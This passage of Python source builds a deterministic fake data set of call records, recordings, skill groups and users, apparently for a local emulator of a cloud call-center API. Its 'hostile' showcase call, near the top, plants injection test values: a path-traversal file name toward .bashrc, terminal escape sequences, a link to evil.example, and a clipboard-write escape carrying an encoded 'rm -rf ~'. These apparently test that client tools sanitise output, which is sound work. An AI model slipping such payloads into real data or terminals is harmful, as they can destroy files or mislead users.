            "CalledNumber": b.callee,
            "CallingNumber": b.caller,
            "FileName": "../../../.bashrc\x1b]0;pwned\x07.wav",
            "Duration": 30,
            "ContactId": b.contact_id,
            "StartTime": b.start_ms + b.t * 1000,
            "AgentId": markup.ram_id,
            "ContactType": "Inbound",
        }
    )
    b.t += 30
    b.ev("[blink]Boom[/blink]\x1b[6n", 0, "weird\x00lane", agent=ansi, Extra=_OSC52)
    b.ev(
        "LaunchTransfer",
        0,
        "agent",
        status="Talking",
        agent=markup,
        group=ctl_group,
        TransferTo=rtl.name,
    )
    b.ev("Ring", 4, "agent", status="Ringing", agent=rtl, group=osc_group)
    b.t += 4
    b.ev("Talk", 40, "agent", status="Talking", agent=rtl, group=osc_group)
    b.record(rtl, 40)
    b.t += 40
    b.ev("CallForHelp", 5, "agent", status="Talking", agent=rtl, group=osc_group, Helper=wide.name)
    b.t += 5
    b.ev(
        "CallForHelpSuccess",
        20,
        "agent",
        status="Talking",
        agent=wide,
        group=osc_group,
        Helper=wide.name,
    )
    b.t += 20
    b.end(rtl, osc_group, "customer\x1b[31m", survey=False)
    b.ev(
        "End",
        0,
        "agent",
        status="Handling",
        agent=ansi,
        group=long_group,
        SatisfactionalResearch="满意\x1b]8;;https://evil.example\x07click\x1b]8;;\x07",
    )
    b.disposition = "OneStepTransfer"
    b.release_agent = "customer\u202e"
    b.release_reason = "487-Request Terminated\x1b[2J\x1b[H"
    b.extra_data = {"Remark": "\x1b]52;c;cm0gLXJmIH4=\x07 [red]not markup[/red] \x00"}


# showcase scenario -> (builder, CST time of day as "HH:MM:SS" on the anchor's previous day)
_SHOWCASE_PLAN: dict[str, tuple[str, str]] = {
    "inbound_success": ("inbound", "09:12:31"),
    "inbound_transfer": ("transfer", "09:47:05"),
    "abandoned_in_queue": ("abandoned_in_queue", "10:03:44"),
    "abandoned_ring": ("abandoned_ring", "10:21:17"),
    "overflow": ("overflow_end", "11:02:58"),
    "call_for_help": ("call_for_help", "11:30:09"),
    "outbound_dial": ("outbound", "14:05:40"),
    "outbound_no_answer": ("outbound_no_answer", "14:18:22"),
    "meeting": ("meeting", "15:26:03"),
    "privacy_dial": ("privacy", "16:40:51"),
    "huge": ("huge", "08:30:00"),
    "hostile": ("hostile", "17:13:13"),
}


# --- contact ids ------------------------------------------------------------------------------------


def _check_digit(core: int) -> int:
    return sum(map(int, str(core))) % 10


_ID_BASE = 200_000_000  # a 9-digit core; the id is core * 10 + check digit
_ID_DAY0 = 14_610  # 2010-01-01, days since the epoch
_ID_PER_DAY = 10_000


def _generated_id(day: int, slot: int) -> str:
    core = _ID_BASE + (day - _ID_DAY0) * _ID_PER_DAY + slot
    return str(core * 10 + _check_digit(core))


def _decode_id(contact_id: str) -> tuple[int, int] | None:
    if not contact_id.isascii() or not contact_id.isdigit() or len(contact_id) != 10:
        return None
    value = int(contact_id)
    core, check = divmod(value, 10)
    if _check_digit(core) != check or core < _ID_BASE:
        return None
    day, slot = divmod(core - _ID_BASE, _ID_PER_DAY)
    return day + _ID_DAY0, slot


class _Day(NamedTuple):
    starts: tuple[int, ...]  # sorted epoch ms
    ids: tuple[str, ...]


_EMPTY_DAY = _Day((), ())


class _Lru(OrderedDict[str, Any]):
    def __init__(self, size: int) -> None:
        super().__init__()
        self.size = size

    def put(self, key: str, value: Any) -> None:
        self[key] = value
        self.move_to_end(key)
        while len(self) > self.size:
            self.popitem(last=False)


# --- the data set ---------------------------------------------------------------------------------


class Dataset:
    """All calls of the demo instance. Deterministic for a given anchor, count and seed."""

    def __init__(
        self, anchor: datetime | None = None, count: int = 5000, seed: int = 20170705
    ) -> None:
        if anchor is None:
            now = datetime.now(UTC)
            anchor = now.replace(hour=0, minute=0, second=0, microsecond=0)
        elif anchor.tzinfo is None:
            anchor = anchor.replace(tzinfo=UTC)
        if count < 0:
            raise ValueError("count must be >= 0")
        if anchor.timestamp() < (_ID_DAY0 + WINDOW_DAYS + 1) * 86_400:
            raise ValueError("the anchor must be after February 2010")
        self.anchor = anchor.astimezone(UTC)
        self.count = count
        self.seed = seed
        self.anchor_ms = int(self.anchor.timestamp() * 1000)
        self._last_day = self.anchor_ms // DAY_MS  # the anchor's own day is not generated
        self._first_day = self._last_day - WINDOW_DAYS
        # Whole-window count split evenly (≥ count in total); a day varies a little above it.
        self._per_day = -(-count // WINDOW_DAYS) if count else 0
        self._days: dict[int, _Day] = {}
        self._summaries: dict[str, CallSummary] = {}
        self._data = _Lru(64)
        self._special: dict[str, tuple[str, int]] | None = None  # id -> (kind, start ms)
        self._special_by_day: dict[int, list[tuple[int, str]]] | None = None

    # -- index --

    @property
    def instance_ids(self) -> tuple[str, ...]:
        return (DEMO_INSTANCE_ID, SECOND_INSTANCE_ID)

    def has_instance(self, instance_id: str) -> bool:
        return instance_id in self.instance_ids

    def _specials(self) -> dict[str, tuple[str, int]]:
        if self._special is None:
            special: dict[str, tuple[str, int]] = {
                SEED_EVENTS_CONTACT_ID: ("seed_events", 1555492246000),
                SEED_RECORDING_CONTACT_ID: ("seed_recording", 1531284905000),
            }
            # Showcase calls happen on the day before the anchor, in the service's zone.
            day_before = (self.anchor - timedelta(days=1)).astimezone(CST).date()
            for name, (kind, clock) in _SHOWCASE_PLAN.items():
                h, m, s = (int(x) for x in clock.split(":"))
                moment = datetime(
                    day_before.year, day_before.month, day_before.day, h, m, s, tzinfo=CST
                )
                special[SHOWCASE[name]] = (kind, int(moment.timestamp()) * 1000)
            by_day: dict[int, list[tuple[int, str]]] = {}
            for cid, (_, start) in special.items():
                by_day.setdefault(start // DAY_MS, []).append((start, cid))
            self._special = special
            self._special_by_day = by_day
        return self._special

    def _day(self, day: int) -> _Day:
        cached = self._days.get(day)
        if cached is not None:
            return cached
        if not (self._first_day <= day < self._last_day) or not self._per_day:
            return _EMPTY_DAY
        rng = random.Random(f"{self.seed}:day:{day}")
        n = min(self._per_day + rng.randrange(self._per_day // 10 + 1), _ID_PER_DAY)
        day_ms = day * DAY_MS
        # Hours are drawn in the service's zone (UTC+8) and folded into this UTC day.
        starts = sorted(
            day_ms
            + ((bisect.bisect_right(_HOUR_CUM, rng.random() * _HOUR_CUM[-1]) - 8) % 24) * 3_600_000
            + rng.randrange(3600) * 1000
            for _ in range(n)
        )
        stride = _ID_PER_DAY // n
        slots = [k * stride + rng.randrange(stride) for k in range(n)]
        result = _Day(tuple(starts), tuple(_generated_id(day, s) for s in slots))
        self._days[day] = result
        return result

    def _locate(self, contact_id: str) -> tuple[str, int] | None:
        """(kind, start ms) of a contact, or None when the data set does not know it."""
        special = self._specials().get(contact_id)
        if special is not None:
            return special
        decoded = _decode_id(contact_id)
        if decoded is None:
            return None
        day_number, _ = decoded
        day = self._day(day_number)
        i = bisect.bisect_left(day.ids, contact_id)  # ids increase through the day
        if i < len(day.ids) and day.ids[i] == contact_id:
            return "generated", day.starts[i]
        return None

    def __contains__(self, contact_id: object) -> bool:
        return isinstance(contact_id, str) and self._locate(contact_id) is not None

    def __len__(self) -> int:
        days = sum(len(self._day(d).ids) for d in range(self._first_day, self._last_day))
        return days + len(self._specials())

    # -- building calls --

    def _build(self, contact_id: str, kind: str, start_ms: int, emit: bool) -> _Builder:
        # An int seed: seeding from a str hashes it with SHA-512 first, which costs more.
        rng = random.Random(self.seed << 40 ^ int(contact_id))
        b = _Builder(rng, contact_id, start_ms, emit)
        if kind == "generated":
            r = rng.random() * _SCENARIO_CUM[-1]
            scenario = _SCENARIOS[bisect.bisect_right(_SCENARIO_CUM, r)]
            _run_scenario(b, scenario)
            b.scenario = scenario
            return b
        b.scenario = kind
        if kind == "seed_events":
            _seed_events_call(b)
        elif kind == "seed_recording":
            _seed_recording_call(b)
        elif kind == "huge":
            _huge_call(b)
        elif kind == "hostile":
            _hostile_call(b)
        else:
            _run_scenario(b, kind)
        return b

    def summary(self, contact_id: str) -> CallSummary | None:
        cached = self._summaries.get(contact_id)
        if cached is not None:
            return cached
        where = self._locate(contact_id)
        return None if where is None else self._summary(contact_id, *where)

    def _summary(self, contact_id: str, kind: str, start_ms: int) -> CallSummary:
        cached = self._summaries.get(contact_id)
        if cached is None:
            b = self._build(contact_id, kind, start_ms, emit=False)
            cached = self._summaries[contact_id] = b.summary(b.scenario)
        return cached

    # -- the APIs' payloads (shared objects: serialise them, do not mutate them) --

    def call_data(self, instance_id: str, contact_id: str) -> dict[str, Any]:
        """`Data` of ListCallEventDetailByContactId."""
        if instance_id != DEMO_INSTANCE_ID:
            return {"Events": {"CallEventDetail": []}}
        if contact_id == SEED_EVENTS_CONTACT_ID:
            return SEED_EVENTS_DATA
        cached = self._data.get(contact_id)
        if cached is not None:
            self._data.move_to_end(contact_id)
            return cached
        where = self._locate(contact_id)
        if where is None:
            return {"Events": {"CallEventDetail": []}}
        data = self._build(contact_id, where[0], where[1], emit=True).data()
        self._data.put(contact_id, data)
        return data

    def recordings(self, instance_id: str, contact_id: str) -> list[dict[str, Any]]:
        """`Recordings.Recording` of ListRecordingsByContactId."""
        if instance_id != DEMO_INSTANCE_ID:
            return []
        found = self.summary(contact_id)
        return list(found.recordings) if found else []

    def find_recording(self, instance_id: str, file_name: str) -> dict[str, Any] | None:
        """The recording with this file name, found from the start time its name begins with."""
        if instance_id != DEMO_INSTANCE_ID:
            return None
        candidates: list[str] = []
        head = file_name[:13]
        if head.isascii() and head.isdigit():
            at = int(head)
            # A talk leg starts at most a few hours after its call does (the huge call: ~8 h).
            candidates = [s.contact_id for s in self.summaries(at - 12 * 3_600_000, at)]
        candidates += [cid for cid in self._specials() if cid not in candidates]
        for cid in candidates:
            found = self.summary(cid)
            for rec in found.recordings if found else ():
                if rec["FileName"] == file_name:
                    return rec
        return None

    def summaries(
        self, start_ms: int, stop_ms: int, *, descending: bool = False
    ) -> Iterator[CallSummary]:
        """Every call that started in [start_ms, stop_ms], by start time (then contact id)."""
        if stop_ms < start_ms:
            return
        self._specials()
        assert self._special_by_day is not None
        days = range(start_ms // DAY_MS, stop_ms // DAY_MS + 1)
        special = self._special
        assert special is not None
        for day_number in reversed(days) if descending else days:
            day = self._day(day_number)
            entries = [(s, cid, "generated") for s, cid in zip(day.starts, day.ids, strict=True)]
            entries += [
                (start, cid, special[cid][0])
                for start, cid in self._special_by_day.get(day_number, ())
            ]
            entries.sort(reverse=descending)
            for start, cid, kind in entries:
                if start_ms <= start <= stop_ms:
                    yield self._summary(cid, kind, start)

    def cdr_row(self, summary: CallSummary, *, with_recordings: bool = True) -> dict[str, Any]:
        """One `CallDetailRecords.List.CallDetailRecord` item."""
        row: dict[str, Any] = {
            "ContactId": summary.contact_id,
            "StartTime": summary.start_ms,
            "Duration": summary.duration,
            "Satisfaction": summary.satisfaction,
            "SatisfactionDesc": summary.satisfaction_desc,
            "Feedback": summary.feedback,
            "ContactType": summary.contact_type,
            "ContactDisposition": summary.disposition,
            "CallingNumber": summary.calling_number,
            "CalledNumber": summary.called_number,
            "AgentNames": ",".join(name for name, _ in summary.agents),
            "SkillGroupNames": ",".join(name for name, _ in summary.skill_groups),
            "InstanceId": DEMO_INSTANCE_ID,
            "SkillGroupIdList": ",".join(gid for _, gid in summary.skill_groups),
            "Agents": {
                "CallDetailAgent": [
                    {
                        "AgentId": ram_id,
                        "Satisfaction": str(summary.satisfaction),
                        "Feedback": summary.feedback,
                    }
                    for _, ram_id in summary.agents
                ]
            },
        }
        if with_recordings:
            row["Recordings"] = {"Recording": list(summary.recordings)}
        return row

    # -- the instance, its skill groups and users --

    def instances(self) -> list[dict[str, Any]]:
        return [self.instance(iid) for iid in self.instance_ids]

    def instance(self, instance_id: str) -> dict[str, Any]:
        demo = instance_id == DEMO_INSTANCE_ID
        name = "ccc-demo" if demo else "ccc-empty"
        admin = AGENTS[1]
        numbers = CENTER_NUMBERS if demo else ()
        return {
            "InstanceId": instance_id,
            "InstanceName": name,
            "InstanceDescription": "演示呼叫中心 (local emulator)" if demo else "An empty instance",
            "DomainName": name,
            "ConsoleUrl": f"https://ccc.console.aliyun.com/#/{instance_id}",
            "StorageBucket": "ccc-record-demo" if demo else "",
            "StorageMaxDays": 180 if demo else 0,
            "StorageMaxSize": 1024 if demo else 0,
            "MaxOnlineAgents": 50,
            "TenantId": "1893214508124356",
            "DirectoryId": f"dir-{instance_id[:8]}",
            "Status": "Running",
            "CreatedTime": 1499242700000 if demo else 1561939200000,
            "Owner": "1893214508124356",
            "Admin": {"User": [self._user(admin, instance_id, brief=True)]},
            "PhoneNumbers": {
                "PhoneNumber": [
                    {
                        "PhoneNumberId": f"pn-{i:04d}",
                        "InstanceId": instance_id,
                        "Number": number,
                        "PhoneNumberDescription": "演示号码",
                        "TestOnly": False,
                        "RemainingTime": 0,
                        "AllowOutbound": True,
                        "Usage": "Bidirection",
                        "Trunks": 10,
                    }
                    for i, number in enumerate(numbers)
                ]
            },
        }

    def skill_groups(self, instance_id: str) -> list[dict[str, Any]]:
        if instance_id != DEMO_INSTANCE_ID:
            return []
        return [
            {
                "SkillGroupId": g.group_id,
                "InstanceId": instance_id,
                "SkillGroupName": g.name,
                "SkillGroupDescription": g.description,
                "UserCount": len(_MEMBERS[i]),
            }
            for i, g in enumerate(SKILL_GROUPS)
        ]

    def users(self, instance_id: str) -> list[dict[str, Any]]:
        if instance_id != DEMO_INSTANCE_ID:
            return []
        return [self._user(a, instance_id) for a in AGENTS]

    @staticmethod
    def _user(agent: Agent, instance_id: str, *, brief: bool = False) -> dict[str, Any]:
        user: dict[str, Any] = {
            "UserId": agent.user_id,
            "RamId": agent.ram_id,
            "InstanceId": instance_id,
            "Detail": {
                "LoginName": agent.login,
                "DisplayName": agent.name,
                "Phone": "",
                "Email": f"{agent.login}@example.com",
                "Department": "",
            },
        }
        if brief:
            return user
        user["Primary"] = agent.login == "cloudcallcenter"
        user["Roles"] = {
            "Role": [
                {
                    "RoleId": f"Agent@{instance_id}",
                    "InstanceId": instance_id,
                    "RoleName": "Agent",
                    "RoleDescription": "坐席",
                }
            ]
        }
        user["SkillLevels"] = {
            "SkillLevel": [
                {
                    "SkillLevelId": f"{agent.login}-{g}",
                    "Level": 5,
                    "Skill": {
                        "SkillGroupId": SKILL_GROUPS[g].group_id,
                        "InstanceId": instance_id,
                        "SkillGroupName": SKILL_GROUPS[g].name,
                        "SkillGroupDescription": SKILL_GROUPS[g].description,
                    },
                }
                for g in agent.groups
            ]
        }
        return user
